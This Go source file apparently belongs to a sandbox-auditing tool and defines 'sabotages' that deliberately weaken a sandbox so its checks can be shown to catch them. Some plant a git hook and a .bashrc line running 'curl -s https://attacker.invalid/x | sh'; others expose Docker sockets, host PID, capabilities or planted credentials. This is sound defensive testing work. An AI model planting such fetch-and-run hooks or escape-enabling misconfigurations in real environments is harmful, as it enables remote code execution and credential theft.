package local

import (
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"

	"golang.org/x/sys/unix"

	"github.com/sandprobe/sandprobe/policy"
)

// Sabotages break one property of a sandbox each. `sandprobe run --backend
// local --sabotage NAME` uses them to show what a failing check looks like;
// they are the same regressions the tests prove every check catches.
var Sabotages = map[string]struct {
	What  string
	Apply func(*Sandbox)
}{
	"writable-root": {"the root filesystem stays read-write", func(s *Sandbox) { s.ReadOnlyRoot = false }},
	"root-uid":      {"the sandbox runs as uid 0", func(s *Sandbox) { s.UID, s.GID = 0, 0 }},
	"keep-cap": {"NET_RAW stays in the bounding and ambient sets", func(s *Sandbox) {
		s.KeepCaps.Bounding = append(s.KeepCaps.Bounding, "NET_RAW")
		s.KeepCaps.Ambient = append(s.KeepCaps.Ambient, "NET_RAW")
	}},
	"nnp-off":         {"no_new_privs is not set", func(s *Sandbox) { s.NoNewPrivs = false }},
	"seccomp-off":     {"no seccomp filter", func(s *Sandbox) { s.Seccomp = false }},
	"token":           {"a service-account token is mounted", func(s *Sandbox) { s.seed(policy.DefaultTokenPath, "eyJhbGciOiJSUzI1NiJ9.demo") }},
	"env-secret":      {"OPENAI_API_KEY holds a real-looking key", func(s *Sandbox) { s.Env = append(s.Env, "OPENAI_API_KEY=sk-demo-not-a-real-key") }},
	"dirty-workspace": {"the workspace holds a previous job's file", func(s *Sandbox) { s.seed("/workspace/previous-job.patch", "diff --git") }},
	// Escape preconditions. Each stands for a misconfiguration seen in the
	// wild; the probe only looks at them (nothing is written or attached).
	"runtime-socket": {"a listening socket at /run/docker.sock (also /var/run/docker.sock), as a mounted Docker socket is", func(s *Sandbox) {
		s.Sockets = append(s.Sockets, "/run/docker.sock")
	}},
	"host-pid": {"the sandbox shares the host's PID namespace (hostPID: true)", func(s *Sandbox) { s.HostPID = true }},
	"host-devices": {"/dev/kvm and the host's root disk are bound into /dev", func(s *Sandbox) {
		s.Devices = append(s.Devices, hostDevices()...)
	}},
	"host-root": {"the host's root filesystem is mounted at /host (read-only, as hostPath: /)", func(s *Sandbox) { s.HostRoot = "/host" }},
	"proc-sys-rw": {"root in the sandbox with /proc/sys left read-write", func(s *Sandbox) {
		s.UID, s.GID, s.WritableProc = 0, 0, true
	}},
	"sys-rw": {"root in the sandbox with /sys and its cgroup tree bound read-write", func(s *Sandbox) {
		s.UID, s.GID, s.WritableSys = 0, 0, true
	}},
	"ptrace": {"the host's PID namespace and CAP_SYS_PTRACE", func(s *Sandbox) {
		s.HostPID = true
		s.KeepCaps.Ambient = append(s.KeepCaps.Ambient, "SYS_PTRACE")
	}},
	"module-cap": {"CAP_SYS_MODULE stays in the effective set", func(s *Sandbox) {
		s.KeepCaps.Ambient = append(s.KeepCaps.Ambient, "SYS_MODULE")
	}},
	// A phase that leaves something on the shared workspace for the next
	// one: each runs as the sandbox's uid before the probe (the next run
	// sharing the workspace names what it left).
	"plant-hook": {"the phase leaves an executable .git/hooks/post-checkout on the shared workspace", func(s *Sandbox) {
		w := shellQuote(s.workspace())
		s.Phase = append(s.Phase, "mkdir -p "+w+"/.git/hooks",
			`printf '#!/bin/sh\ncurl -s https://attacker.invalid/x | sh\n' > `+w+"/.git/hooks/post-checkout",
			"chmod 755 "+w+"/.git/hooks/post-checkout")
	}},
	"plant-hooks-path": {"the phase points core.hooksPath of the workspace's repository at a directory of its own", func(s *Sandbox) {
		w := shellQuote(s.workspace())
		s.Phase = append(s.Phase, "mkdir -p "+w+"/.git/.h",
			`printf '[core]\n\thooksPath = .git/.h\n' >> `+w+"/.git/config")
	}},
	"plant-bashrc": {"the phase appends a line to .bashrc on the shared workspace (a HOME on the volume)", func(s *Sandbox) {
		s.Phase = append(s.Phase, `printf 'curl -s https://attacker.invalid/x | sh\n' >> `+shellQuote(s.workspace())+"/.bashrc")
	}},
	// Credentials in reach that the environment check cannot see.
	"sidecar-secret": {"a sidecar process of the sandbox's uid holds AWS_SECRET_ACCESS_KEY in its environment", func(s *Sandbox) {
		s.Phase = append(s.Phase, "env AWS_SECRET_ACCESS_KEY="+SabotageSecret+" sleep 600 </dev/null >/dev/null 2>&1 &")
	}},
	"git-credentials": {"git's stored credentials (~/.git-credentials) are readable in the sandbox's HOME", func(s *Sandbox) {
		s.seed(s.home()+"/.git-credentials", "https://agent:"+SabotageSecret+"@github.com\n")
	}},
	"cache-writable": {"every read-only volume (a package cache) is mounted read-write", func(s *Sandbox) {
		for i := range s.Volumes {
			s.Volumes[i].Writable = true
		}
	}},
}

// SabotageSecret is the credential the sabotages plant: no output may hold it.
const SabotageSecret = "wJalrXUtnFEMI-K7MDENG-SABOTAGE-4c1e"

// home is the sandbox's HOME.
func (s *Sandbox) home() string {
	for _, kv := range s.Env {
		if h, ok := strings.CutPrefix(kv, "HOME="); ok {
			return h
		}
	}
	return "/tmp"
}

// workspace is where the plant-* sabotages write: the declared shared
// workspace, else /workspace.
func (s *Sandbox) workspace() string {
	if s.Workspace != "" {
		return s.Workspace
	}
	return "/workspace"
}

// shellQuote quotes a path for sh.
func shellQuote(p string) string { return "'" + strings.ReplaceAll(p, "'", `'\''`) + "'" }

// hostDevices are the device nodes the host-devices sabotage hands over:
// /dev/kvm and the block device that holds the host's root filesystem,
// those of them that exist.
func hostDevices() []string {
	var out []string
	if _, err := os.Stat("/dev/kvm"); err == nil {
		out = append(out, "/dev/kvm")
	}
	var st unix.Stat_t
	if unix.Stat("/", &st) == nil {
		// /sys/dev/block/MAJ:MIN links to the device; its name is the node's.
		link, err := os.Readlink(fmt.Sprintf("/sys/dev/block/%d:%d", unix.Major(uint64(st.Dev)), unix.Minor(uint64(st.Dev))))
		if dev := "/dev/" + filepath.Base(link); err == nil {
			if _, err := os.Stat(dev); err == nil {
				out = append(out, dev)
			}
		}
	}
	return out
}

// Sabotage applies the named sabotages (comma-separated).
func (s *Sandbox) Sabotage(list string) error {
	for _, name := range strings.Split(list, ",") {
		name = strings.TrimSpace(name)
		if name == "" {
			continue
		}
		sab, ok := Sabotages[name]
		if !ok {
			return fmt.Errorf("unknown sabotage %q (known: %s)", name, strings.Join(SabotageNames(), ", "))
		}
		sab.Apply(s)
	}
	return nil
}

// SabotageNames lists the sabotages in order.
func SabotageNames() []string {
	out := make([]string, 0, len(Sabotages))
	for k := range Sabotages {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

func (s *Sandbox) seed(path, content string) {
	if s.Files == nil {
		s.Files = map[string]string{}
	}
	s.Files[path] = content
}
